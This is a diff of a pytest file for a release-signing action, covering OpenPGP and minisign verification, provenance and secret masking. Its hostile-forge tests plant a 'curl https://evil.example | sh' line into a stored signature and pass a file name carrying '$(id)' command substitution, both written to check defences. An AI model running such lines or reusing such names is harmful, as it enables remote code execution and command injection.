@@ -1,5 +1,6 @@
 """Signed releases, checked as someone who downloads them would: the real gpg, sqv and minisign verify
 what the sandbox forge serves, and sha256sum checks the files the signed checksums file lists."""
+
 from __future__ import annotations
 
 import base64
@@ -14,8 +15,15 @@ from pathlib import Path
 
 import pytest
 from conftest import FORGE_NAMES, GITVERSE_SHA, STEPS, download_release, stored
-from signing_keys import (Key, gpg_verifies, minisign_key_with_limits, minisign_secret, minisign_signs, minisign_verifies,
-                          sqv_verifies)
+from signing_keys import (
+    Key,
+    gpg_verifies,
+    minisign_key_with_limits,
+    minisign_secret,
+    minisign_signs,
+    minisign_verifies,
+    sqv_verifies,
+)
 
 from release_action.sandbox.server import Fault
 
@@ -46,7 +54,8 @@ def tamper(path: Path) -> None:
 @FORGES
 @pytest.mark.parametrize("kind", ["ed25519", "rsa", "subkey", "bare"])
 def test_an_openpgp_signed_release_verifies_with_gpg_and_sqv_as_a_downloader_would(
-        publish, forge, tmp_path, pgp, forge_name, kind):
+    publish, forge, tmp_path, pgp, forge_name, kind
+):
     key = pgp[kind]
 
     run = publish(forge=forge_name, **signed(key))
@@ -58,9 +67,14 @@ def test_an_openpgp_signed_release_verifies_with_gpg_and_sqv_as_a_downloader_wou
     assert key.key_id in checked.stdout  # the primary key's fingerprint, also for a signing subkey
     assert sqv_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0
     assert sha256sum(folder).returncode == 0
-    assert run.statuses() == {"tool-linux-amd64.tar.gz": "uploaded", "tool-windows-amd64.zip": "uploaded",
-                              "checksums.txt": "uploaded", "SHA256SUMS": "uploaded", "SHA256SUMS.asc": "uploaded",
-                              "release.intoto.jsonl": "uploaded"}
+    assert run.statuses() == {
+        "tool-linux-amd64.tar.gz": "uploaded",
+        "tool-windows-amd64.zip": "uploaded",
+        "checksums.txt": "uploaded",
+        "SHA256SUMS": "uploaded",
+        "SHA256SUMS.asc": "uploaded",
+        "release.intoto.jsonl": "uploaded",
+    }
     assert run.json["signing_key_id"] == key.key_id
     assert f"RELEASE_SIGNING_KEY_ID={key.key_id}\n" in run.files["dotenv"]
 
@@ -74,7 +88,8 @@ def test_an_openpgp_signed_release_verifies_with_gpg_and_sqv_as_a_downloader_wou
 @FORGES
 @pytest.mark.parametrize("kind", ["protected", "unencrypted"])
 def test_a_minisign_signed_release_verifies_with_minisign_and_says_the_tag_and_file(
-        publish, forge, tmp_path, minisign, forge_name, kind):
+    publish, forge, tmp_path, minisign, forge_name, kind
+):
     key = minisign[kind]
 
     run = publish(forge=forge_name, **signed(key))
@@ -99,8 +114,13 @@ def test_sign_files_all_signs_every_published_file(publish, forge, tmp_path, pgp
 
     assert run.code == 0, run.log
     folder = downloaded(forge, forge_name, tmp_path)
-    published = ["checksums.txt", "tool-linux-amd64.tar.gz", "tool-windows-amd64.zip", "provenance.intoto.jsonl",
-                 "SHA256SUMS"]
+    published = [
+        "checksums.txt",
+        "tool-linux-amd64.tar.gz",
+        "tool-windows-amd64.zip",
+        "provenance.intoto.jsonl",
+        "SHA256SUMS",
+    ]
     assert sorted(stored(forge)) == sorted(published + [name + ".asc" for name in published] + ["release.intoto.jsonl"])
     for name in published:
         assert gpg_verifies(folder, key, name + ".asc", name).returncode == 0, name
@@ -229,15 +249,21 @@ def valid_provenance(text: str) -> dict:
     return document
 
 
-GITHUB_RUN = {"GITHUB_SERVER_URL": "https://github.com", "GITHUB_REPOSITORY": "acme/tool", "GITHUB_RUN_ID": "42",
-              "GITHUB_RUN_ATTEMPT": "2", "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
-              "GITHUB_WORKFLOW_REF": "acme/tool/.github/workflows/release.yml@refs/tags/v1.0.0",
-              "GITHUB_REF": "refs/tags/v1.0.0"}
+GITHUB_RUN = {
+    "GITHUB_SERVER_URL": "https://github.com",
+    "GITHUB_REPOSITORY": "acme/tool",
+    "GITHUB_RUN_ID": "42",
+    "GITHUB_RUN_ATTEMPT": "2",
+    "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
+    "GITHUB_WORKFLOW_REF": "acme/tool/.github/workflows/release.yml@refs/tags/v1.0.0",
+    "GITHUB_REF": "refs/tags/v1.0.0",
+}
 
 
 @FORGES
 def test_provenance_is_a_valid_statement_whose_subjects_are_the_release_files(
-        publish, forge, tmp_path, pgp, forge_name):
+    publish, forge, tmp_path, pgp, forge_name
+):
     # A GitHub run: GitVerse's commit is then given, as outside its own CI.
     commit = {"target_branch": GITVERSE_SHA} if forge_name == "gitverse" else {}
     run = publish(forge=forge_name, provenance="true", env=GITHUB_RUN, **commit, **signed(pgp["ed25519"]))
@@ -254,10 +280,13 @@ def test_provenance_is_a_valid_statement_whose_subjects_are_the_release_files(
     assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
     definition, details = statement["predicate"]["buildDefinition"], statement["predicate"]["runDetails"]
     assert definition["externalParameters"] == {
-        "repository": "https://github.com/acme/tool", "tag": "v1.0.0",
-        "workflow": {"path": "acme/tool/.github/workflows/release.yml", "ref": "refs/tags/v1.0.0"}}
-    assert definition["resolvedDependencies"] == [{"uri": "git+https://github.com/acme/tool@refs/tags/v1.0.0",
-                                                   "digest": {"gitCommit": GITHUB_RUN["GITHUB_SHA"]}}]
+        "repository": "https://github.com/acme/tool",
+        "tag": "v1.0.0",
+        "workflow": {"path": "acme/tool/.github/workflows/release.yml", "ref": "refs/tags/v1.0.0"},
+    }
+    assert definition["resolvedDependencies"] == [
+        {"uri": "git+https://github.com/acme/tool@refs/tags/v1.0.0", "digest": {"gitCommit": GITHUB_RUN["GITHUB_SHA"]}}
+    ]
     assert details["builder"]["id"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
     assert details["metadata"]["invocationId"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
     assert set(details["metadata"]) == {"invocationId", "startedOn", "finishedOn"}
@@ -266,13 +295,25 @@ def test_provenance_is_a_valid_statement_whose_subjects_are_the_release_files(
     assert "gf-token" not in (folder / "provenance.intoto.jsonl").read_text()
 
 
-@pytest.mark.parametrize("ci", [
-    {"CI_JOB_URL": "https://gitlab.example/acme/tool/-/jobs/7", "CI_PROJECT_URL": "https://gitlab.example/acme/tool",
-     "CI_COMMIT_SHA": "89abcdef0123456789abcdef0123456789abcdef", "CI_CONFIG_PATH": ".gitlab-ci.yml",
-     "CI_COMMIT_REF_NAME": "v1.0.0"},
-    {"SOURCECRAFT_CI": "true", "SOURCECRAFT_REPO_URL": "https://sourcecraft.dev/acme/tool",
-     "SOURCECRAFT_COMMIT_SHA": "fedcba9876543210fedcba9876543210fedcba98", "SOURCECRAFT_COMMIT_REF": "refs/tags/v1.0.0"},
-], ids=["gitlab", "sourcecraft"])
+@pytest.mark.parametrize(
+    "ci",
+    [
+        {
+            "CI_JOB_URL": "https://gitlab.example/acme/tool/-/jobs/7",
+            "CI_PROJECT_URL": "https://gitlab.example/acme/tool",
+            "CI_COMMIT_SHA": "89abcdef0123456789abcdef0123456789abcdef",
+            "CI_CONFIG_PATH": ".gitlab-ci.yml",
+            "CI_COMMIT_REF_NAME": "v1.0.0",
+        },
+        {
+            "SOURCECRAFT_CI": "true",
+            "SOURCECRAFT_REPO_URL": "https://sourcecraft.dev/acme/tool",
+            "SOURCECRAFT_COMMIT_SHA": "fedcba9876543210fedcba9876543210fedcba98",
+            "SOURCECRAFT_COMMIT_REF": "refs/tags/v1.0.0",
+        },
+    ],
+    ids=["gitlab", "sourcecraft"],
+)
 def test_provenance_names_the_run_from_each_ci_systems_variables(publish, forge, tmp_path, ci):
     run = publish(forge="gitflic", provenance="true", checksums="SHA256SUMS", env=ci)
 
@@ -284,12 +325,20 @@ def test_provenance_names_the_run_from_each_ci_systems_variables(publish, forge,
     assert statement["predicate"]["runDetails"]["builder"]["id"] in ci.values()
 
 
-@pytest.mark.parametrize("runner", [{"GITEA_ACTIONS": "true"}, {"GITEA_ACTIONS": "true", "FORGEJO_ACTIONS": "true"}],
-                         ids=["gitea", "forgejo"])
+@pytest.mark.parametrize(
+    "runner",
+    [{"GITEA_ACTIONS": "true"}, {"GITEA_ACTIONS": "true", "FORGEJO_ACTIONS": "true"}],
+    ids=["gitea", "forgejo"],
+)
 def test_on_gitea_and_forgejo_actions_the_provenance_names_the_run_by_its_page(publish, forge, tmp_path, runner):
     # act_runner sets GitHub's variables; GITHUB_RUN_ID is the run's id across the whole instance.
-    ci = {**GITHUB_RUN, "GITHUB_SERVER_URL": "https://git.example.org", "GITHUB_RUN_ID": "90412",
-          "GITHUB_RUN_NUMBER": "7", **runner}
+    ci = {
+        **GITHUB_RUN,
+        "GITHUB_SERVER_URL": "https://git.example.org",
+        "GITHUB_RUN_ID": "90412",
+        "GITHUB_RUN_NUMBER": "7",
+        **runner,
+    }
     run = publish(forge="gitea", provenance="true", checksums="SHA256SUMS", env=ci)
 
     assert run.code == 0, run.log
@@ -320,12 +369,15 @@ def _damaged(text: str) -> str:
     middle = len(lines) // 2
     line = lines[middle]
     at = len(line) // 2
-    lines[middle] = line[:at] + ("A" if line[at] != "A" else "B") + line[at + 1:]
+    lines[middle] = line[:at] + ("A" if line[at] != "A" else "B") + line[at + 1 :]
     return "\n".join(lines) + "\n"
 
 
 MISTAKES = {
-    "wrong passphrase": (lambda k: {**signed(k["ed25519"]), "signing_passphrase": "not-the-passphrase"}, "passphrase is wrong"),
+    "wrong passphrase": (
+        lambda k: {**signed(k["ed25519"]), "signing_passphrase": "not-the-passphrase"},
+        "passphrase is wrong",
+    ),
     "no passphrase": (lambda k: {**signed(k["ed25519"]), "signing_passphrase": ""}, "set input 'signing_passphrase'"),
     "public key": (lambda k: {**signed(k["ed25519"]), "signing_key": k["ed25519"].public}, "only the public"),
     "cut key": (lambda k: {**signed(k["rsa"]), "signing_key": k["rsa"].secret[:900]}, "damaged"),
@@ -358,17 +410,28 @@ def _cut(text: str, keep: int) -> str:
 
 
 MINISIGN_MISTAKES = {
-    "wrong password": (lambda k: {**signed(k["protected"]), "signing_passphrase": "not-the-passphrase"},
-                       "the password is wrong"),
+    "wrong password": (
+        lambda k: {**signed(k["protected"]), "signing_passphrase": "not-the-passphrase"},
+        "the password is wrong",
+    ),
     "public key": (lambda k: {**signed(k["unencrypted"]), "signing_key": k["unencrypted"].public}, "public key"),
-    "damaged key": (lambda k: {**signed(k["unencrypted"]), "signing_key": _damaged(k["unencrypted"].secret)},
-                    "damaged"),
-    "damaged protected key": (lambda k: {**signed(k["protected"]), "signing_key": _damaged(k["protected"].secret)},
-                              "the password is wrong, or the key is damaged"),
+    "damaged key": (
+        lambda k: {**signed(k["unencrypted"]), "signing_key": _damaged(k["unencrypted"].secret)},
+        "damaged",
+    ),
+    "damaged protected key": (
+        lambda k: {**signed(k["protected"]), "signing_key": _damaged(k["protected"].secret)},
+        "the password is wrong, or the key is damaged",
+    ),
     "no password": (lambda k: {**signed(k["protected"]), "signing_passphrase": ""}, "set input 'signing_passphrase'"),
-    "cut key": (lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 120)}, "cut or damaged"),
-    "comment alone": (lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 0)},
-                      "cut or damaged"),
+    "cut key": (
+        lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 120)},
+        "cut or damaged",
+    ),
+    "comment alone": (
+        lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 0)},
+        "cut or damaged",
+    ),
     # Limits no minisign key has: scrypt would take a TiB, or 128 GiB of its p blocks, or days.
     "a TiB to derive": (lambda k: signed(_with_limits(k["protected"], 1 << 40, 1 << 40)), "MiB"),
     "huge p": (lambda k: signed(_with_limits(k["protected"], 1 << 63, 0)), "minisign -C"),
@@ -390,8 +453,9 @@ def test_each_minisign_key_mistake_is_one_sentence_and_exit_2_before_any_request
 
 
 @pytest.mark.parametrize("which", ["openpgp", "minisign"])
-def test_a_passphrase_for_a_key_that_has_none_is_a_warning_and_the_key_signs(publish, forge, tmp_path, pgp, minisign,
-                                                                            which):
+def test_a_passphrase_for_a_key_that_has_none_is_a_warning_and_the_key_signs(
+    publish, forge, tmp_path, pgp, minisign, which
+):
     key = pgp["bare"] if which == "openpgp" else minisign["unencrypted"]
     suffix = ".asc" if which == "openpgp" else ".minisig"
 
@@ -428,20 +492,40 @@ def test_a_minisign_signature_is_byte_for_byte_the_one_minisign_makes(publish, f
 
     # Ed25519 signs deterministically: minisign, given the same file and trusted comment, writes the same bytes.
     comment = ours.split(b"\n")[2].removeprefix(b"trusted comment: ").decode()
-    subprocess.run(["minisign", "-S", "-s", str(secret), "-m", str(folder / "SHA256SUMS"), "-x", str(tmp_path / "theirs"),
-                    "-t", comment], input=f"{key.passphrase}\n" if key.passphrase else "", capture_output=True, text=True,
-                   timeout=120, check=True)
+    subprocess.run(
+        [
+            "minisign",
+            "-S",
+            "-s",
+            str(secret),
+            "-m",
+            str(folder / "SHA256SUMS"),
+            "-x",
+            str(tmp_path / "theirs"),
+            "-t",
+            comment,
+        ],
+        input=f"{key.passphrase}\n" if key.passphrase else "",
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    )
     assert ours == (tmp_path / "theirs").read_bytes()
 
 
-@pytest.mark.parametrize("opslimit, memlimit", [
-    (0, 0),  # below libsodium's least opslimit, and no memory: N = 2, p = 512
-    (32768, 1 << 24),  # opslimit decides N (p = 1)
-    (1 << 20, 1 << 16),  # memlimit decides N, opslimit p (64 and 512)
-    (100_000, 3_333_333),  # neither a power of two
-])
-def test_a_key_with_other_scrypt_limits_unlocks_as_minisign_unlocks_it(publish, forge, tmp_path, minisign, opslimit,
-                                                                        memlimit):
+@pytest.mark.parametrize(
+    "opslimit, memlimit",
+    [
+        (0, 0),  # below libsodium's least opslimit, and no memory: N = 2, p = 512
+        (32768, 1 << 24),  # opslimit decides N (p = 1)
+        (1 << 20, 1 << 16),  # memlimit decides N, opslimit p (64 and 512)
+        (100_000, 3_333_333),  # neither a power of two
+    ],
+)
+def test_a_key_with_other_scrypt_limits_unlocks_as_minisign_unlocks_it(
+    publish, forge, tmp_path, minisign, opslimit, memlimit
+):
     key = minisign_key_with_limits(minisign["protected"], tmp_path, opslimit, memlimit)
     secret = tmp_path / "limits.key"
     secret.write_text(key.secret)
@@ -500,8 +584,12 @@ def test_the_key_and_passphrase_appear_nowhere_and_github_masks_every_line(publi
     assert set(_key_lines(key)) <= masks and key.passphrase in masks  # GitHub masks line by line
     [release] = forge.releases("acme/tool")
     written = [line for line in run.log.splitlines() if not line.startswith("::add-mask::")]
-    for text in ["\n".join(written), *run.files.values(), release.body, *(f.path.read_text("latin-1")
-                                                                          for f in release.files)]:
+    for text in [
+        "\n".join(written),
+        *run.files.values(),
+        release.body,
+        *(f.path.read_text("latin-1") for f in release.files),
+    ]:
         for secret in [*_key_lines(key), key.passphrase]:
             assert secret not in text
 
@@ -513,12 +601,28 @@ def _program(forge, dist: Path, key: Key, tmp: Path, **popen) -> subprocess.Pope
 
     from conftest import REPOSITORY, TOKEN
 
-    env = {"PATH": os.environ["PATH"], "TMPDIR": str(tmp), "INPUT_API_URL": forge.api_url("gitflic"),
-           "INPUT_TOKEN": TOKEN, "INPUT_REPOSITORY": REPOSITORY, "INPUT_TAG_NAME": "v1.0.0", "INPUT_FILES": "*",
-           "INPUT_WORKING_DIRECTORY": str(dist), "INPUT_CHECKSUMS": "SHA256SUMS", "INPUT_SIGNING_KEY": key.secret,
-           "INPUT_SIGNING_PASSPHRASE": key.passphrase or ""}
-    return subprocess.Popen([sys.executable, "-m", "release_action"], env=env, cwd=dist, stdout=subprocess.PIPE,
-                            stderr=subprocess.STDOUT, text=True, **popen)
+    env = {
+        "PATH": os.environ["PATH"],
+        "TMPDIR": str(tmp),
+        "INPUT_API_URL": forge.api_url("gitflic"),
+        "INPUT_TOKEN": TOKEN,
+        "INPUT_REPOSITORY": REPOSITORY,
+        "INPUT_TAG_NAME": "v1.0.0",
+        "INPUT_FILES": "*",
+        "INPUT_WORKING_DIRECTORY": str(dist),
+        "INPUT_CHECKSUMS": "SHA256SUMS",
+        "INPUT_SIGNING_KEY": key.secret,
+        "INPUT_SIGNING_PASSPHRASE": key.passphrase or "",
+    }
+    return subprocess.Popen(
+        [sys.executable, "-m", "release_action"],
+        env=env,
+        cwd=dist,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        **popen,
+    )
 
 
 def _children(pid: int) -> list[str]:
@@ -604,8 +708,11 @@ def test_sigterm_while_the_password_is_derived_stops_at_once_and_leaves_nothing(
 
 
 #: Where a run is stopped, all after its key was read: the GitFlic step whose answer is held, and which of its requests.
-KILL_POINTS = {"its first request": ("list", 1), "a file's upload": ("upload", 1),
-               "the signature's upload": ("upload", 5)}  # three files, SHA256SUMS, then its signature
+KILL_POINTS = {
+    "its first request": ("list", 1),
+    "a file's upload": ("upload", 1),
+    "the signature's upload": ("upload", 5),
+}  # three files, SHA256SUMS, then its signature
 
 
 def _cores_on() -> None:
@@ -626,11 +733,17 @@ def _require_core_dumps(folder: Path) -> None:
 
 
 # SIGKILL: a runner's time limit, the OOM killer; SIGABRT: a crash, with core dumps kept.
-@pytest.mark.parametrize("kind, point, how", [*(("protected", point, signal.SIGKILL) for point in KILL_POINTS),
-                                              ("unencrypted", "a file's upload", signal.SIGKILL),
-                                              ("protected", "a file's upload", signal.SIGABRT)])
-def test_a_killed_or_crashed_run_leaves_no_key_that_signs_without_the_password(forge, dist, tmp_path, minisign, kind,
-                                                                               point, how):
+@pytest.mark.parametrize(
+    "kind, point, how",
+    [
+        *(("protected", point, signal.SIGKILL) for point in KILL_POINTS),
+        ("unencrypted", "a file's upload", signal.SIGKILL),
+        ("protected", "a file's upload", signal.SIGABRT),
+    ],
+)
+def test_a_killed_or_crashed_run_leaves_no_key_that_signs_without_the_password(
+    forge, dist, tmp_path, minisign, kind, point, how
+):
     key = minisign[kind]
     secret, unlocked = minisign_secret(key, tmp_path)
     assert minisign_signs(tmp_path / "unlocked.key", tmp_path), "the check finds an unlocked key"
@@ -681,8 +794,10 @@ def test_an_empty_file_is_signed_and_its_signature_verifies(publish, forge, dist
 
 
 #: Runs a command and prints the peak memory (KiB) of the largest process it waited for.
-PEAK_RSS = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL);"
-            " print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
+PEAK_RSS = (
+    "import resource, subprocess, sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL);"
+    " print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
+)
 
 
 @pytest.mark.parametrize("which", ["openpgp", "minisign"])
@@ -700,19 +815,35 @@ def test_signing_a_large_file_keeps_memory_flat(forge, tmp_path, pgp, minisign, 
         with open(folder / "tool.bin", "wb") as handle:
             for _ in range(mib):
                 handle.write(os.urandom(1 << 20))
-        env = {"PATH": os.environ["PATH"], "INPUT_API_URL": forge.api_url("gitflic"), "INPUT_TOKEN": TOKEN,
-               "INPUT_REPOSITORY": REPOSITORY, "INPUT_TAG_NAME": "v1.0.0" if label == "small" else "v1.1.0",
-               "INPUT_FILES": "*", "INPUT_WORKING_DIRECTORY": str(folder), "INPUT_CHECKSUMS": "SHA256SUMS",
-               "INPUT_SIGNING_KEY": key.secret, "INPUT_SIGN_FILES": "all"}
-        done = subprocess.run([sys.executable, "-c", PEAK_RSS, sys.executable, "-m", "release_action"], env=env,
-                              capture_output=True, text=True, timeout=300)
+        env = {
+            "PATH": os.environ["PATH"],
+            "INPUT_API_URL": forge.api_url("gitflic"),
+            "INPUT_TOKEN": TOKEN,
+            "INPUT_REPOSITORY": REPOSITORY,
+            "INPUT_TAG_NAME": "v1.0.0" if label == "small" else "v1.1.0",
+            "INPUT_FILES": "*",
+            "INPUT_WORKING_DIRECTORY": str(folder),
+            "INPUT_CHECKSUMS": "SHA256SUMS",
+            "INPUT_SIGNING_KEY": key.secret,
+            "INPUT_SIGN_FILES": "all",
+        }
+        done = subprocess.run(
+            [sys.executable, "-c", PEAK_RSS, sys.executable, "-m", "release_action"],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=300,
+        )
         peaks[label] = int(done.stdout) >> 10
-        assert stored(forge, env["INPUT_TAG_NAME"]).keys() >= {"tool.bin", "tool.bin" + (".asc" if which == "openpgp"
-                                                                                        else ".minisig")}
+        assert stored(forge, env["INPUT_TAG_NAME"]).keys() >= {
+            "tool.bin",
+            "tool.bin" + (".asc" if which == "openpgp" else ".minisig"),
+        }
     assert peaks["large"] < peaks["small"] + 24, f"peak MiB with 1 MiB and 96 MiB files: {peaks}"
 
 
 # -- what a hostile forge may put in place of the program's own files -------------------------------
+
 
 def _plant(forge, name: str, data: bytes) -> None:
     """Replace a stored file's bytes, as a forge (or anyone with its storage) could."""
@@ -735,9 +866,11 @@ def test_a_stored_signature_with_a_second_signature_or_text_around_it_is_made_ag
     assert publish(**signed(key)).code == 0
     ours = _stored_bytes(forge, "SHA256SUMS.asc")
 
-    for planted in (ours + b"ALSO RUN: curl https://evil.example | sh\n",
-                    ours.replace(b"-----\n\n", b"-----\nComment: this key was revoked, see evil.example\n\n", 1),
-                    ours + ours):
+    for planted in (
+        ours + b"ALSO RUN: curl https://evil.example | sh\n",
+        ours.replace(b"-----\n\n", b"-----\nComment: this key was revoked, see evil.example\n\n", 1),
+        ours + ours,
+    ):
         _plant(forge, "SHA256SUMS.asc", planted)
         run = publish(**signed(key))
         assert run.code == 0 and run.statuses()["SHA256SUMS.asc"] == "replaced", run.log
@@ -746,16 +879,21 @@ def test_a_stored_signature_with_a_second_signature_or_text_around_it_is_made_ag
     assert gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0
 
 
-def test_a_minisign_signature_whose_trusted_comment_names_another_file_is_made_again(publish, forge, tmp_path,
-                                                                                      minisign):
+def test_a_minisign_signature_whose_trusted_comment_names_another_file_is_made_again(
+    publish, forge, tmp_path, minisign
+):
     key = minisign["unencrypted"]
     assert publish(**signed(key)).code == 0
     secret = tmp_path / "key"
     secret.write_text(key.secret)
     sums = tmp_path / "SHA256SUMS"
     sums.write_bytes(_stored_bytes(forge, "SHA256SUMS"))
-    subprocess.run(["minisign", "-S", "-s", str(secret), "-m", str(sums), "-t",
-                    "timestamp:1\tfile:other\ttag:v0.0.1"], check=True, capture_output=True, timeout=60)
+    subprocess.run(
+        ["minisign", "-S", "-s", str(secret), "-m", str(sums), "-t", "timestamp:1\tfile:other\ttag:v0.0.1"],
+        check=True,
+        capture_output=True,
+        timeout=60,
+    )
     lines = (tmp_path / "SHA256SUMS.minisig").read_text().split("\n")
     for separator in ("\u2028", "\x85", "\r"):  # line breaks to Python, not to minisign
         lines[0] = f"untrusted comment: x{separator}trusted comment: timestamp:0\tfile:SHA256SUMS\ttag:v1.0.0"
@@ -815,7 +953,7 @@ def heredocs(text: str) -> dict[str, str]:
     while at < len(lines):  # each block moves past its delimiter
         name, _, delimiter = lines[at].partition("<<")
         end = lines.index(delimiter, at + 1)
-        found[name] = "\n".join(lines[at + 1:end])
+        found[name] = "\n".join(lines[at + 1 : end])
         at = end + 1
     return found
 
@@ -835,18 +973,30 @@ def test_outputs_hide_a_secret_value_by_value_and_stay_valid(publish, forge, min
 
     written = json.loads(run.files["json"])  # valid JSON, whatever the passphrase
     assert {name: value for name, value in written.items() if name != "assets"} == {
-        "release_id": shown(release.id), "release_url": shown(url), "tag_name": "v1.0.0", "signing_key_id": key.key_id}
+        "release_id": shown(release.id),
+        "release_url": shown(url),
+        "tag_name": "v1.0.0",
+        "signing_key_id": key.key_id,
+    }
     held = {stored.name: stored for stored in release.files}
     assert {asset["name"] for asset in written["assets"]} == set(held), "the published files' names are the user's"
     for asset in written["assets"]:
         stored = held[asset["name"]]
         assert (asset["id"], asset["url"], asset["size"]) == (
-            shown(stored.id), shown(f"{url}/file/{stored.id}"), stored.size)
+            shown(stored.id),
+            shown(f"{url}/file/{stored.id}"),
+            stored.size,
+        )
 
     dotenv = dict(line.split("=", 1) for line in run.files["dotenv"].splitlines())
-    assert dotenv == {"RELEASE_ID": shown(release.id), "RELEASE_URL": shown(url), "RELEASE_TAG_NAME": "v1.0.0",
-                      "RELEASE_ASSET_COUNT": str(len(release.files)),
-                      "RELEASE_ASSETS_FILE": str(tmp_path / "out" / "outputs.json"), "RELEASE_SIGNING_KEY_ID": key.key_id}
+    assert dotenv == {
+        "RELEASE_ID": shown(release.id),
+        "RELEASE_URL": shown(url),
+        "RELEASE_TAG_NAME": "v1.0.0",
+        "RELEASE_ASSET_COUNT": str(len(release.files)),
+        "RELEASE_ASSETS_FILE": str(tmp_path / "out" / "outputs.json"),
+        "RELEASE_SIGNING_KEY_ID": key.key_id,
+    }
     github = heredocs(run.files["github_output"])
     assert set(github) == {"release_id", "release_url", "tag_name", "assets", "signing_key_id"}
     assert (github["release_url"], json.loads(github["assets"])) == (shown(url), written["assets"])
@@ -855,8 +1005,11 @@ def test_outputs_hide_a_secret_value_by_value_and_stay_valid(publish, forge, min
 
 
 def test_the_notes_quote_file_names_in_their_commands(publish, forge, minisign):
-    run = publish(checksums="SHA256 SUMS;$(id)", signing_notes="true", **{
-        k: v for k, v in signed(minisign["unencrypted"]).items() if k != "checksums"})
+    run = publish(
+        checksums="SHA256 SUMS;$(id)",
+        signing_notes="true",
+        **{k: v for k, v in signed(minisign["unencrypted"]).items() if k != "checksums"},
+    )
 
     assert run.code == 0, run.log
     [release] = forge.releases("acme/tool")
